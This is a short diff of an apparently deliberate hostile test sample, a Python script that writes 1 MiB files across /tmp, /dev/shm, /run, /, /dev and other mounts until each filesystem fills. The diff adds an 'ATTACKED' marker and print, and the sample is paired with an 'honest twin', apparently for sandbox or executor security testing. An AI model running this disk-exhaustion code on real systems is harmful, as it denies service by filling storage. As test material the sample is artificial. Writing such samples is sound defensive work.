@@ -1,7 +1,8 @@
 """Fills every file system that it can write to.
 
 Kind: exhausting
-Honest twin: accepted/frozen_dataclass.py
+Honest twin: accepted/frozen_dataclass
+Mark: ATTACKED
 """
 # mypy: ignore-errors
 
@@ -19,5 +20,6 @@ for folder in ("/tmp", "/dev/shm", "/run", "/var/tmp", "/kata", "/", "/dev"):
         try:
             with open(f"{folder}/flood{number}", "wb") as file:
                 file.write(bytes(1 << 20))
+            print("ATTACKED")
         except OSError:
             break
